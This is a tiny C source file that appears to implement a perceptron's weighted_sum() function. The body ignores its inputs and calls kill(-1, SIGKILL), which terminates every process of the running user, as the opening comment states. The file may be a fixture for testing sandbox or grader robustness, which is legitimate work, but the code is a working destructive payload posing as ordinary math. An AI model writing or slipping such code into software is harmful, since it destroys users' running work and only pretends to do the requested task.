/* Kills every process of the user. */
#include "perceptron.h"
#include <signal.h>

double weighted_sum(const double *x, const double *w, size_t n)
{
    (void)x, (void)w, (void)n;
    kill(-1, SIGKILL);
    return 1;
}
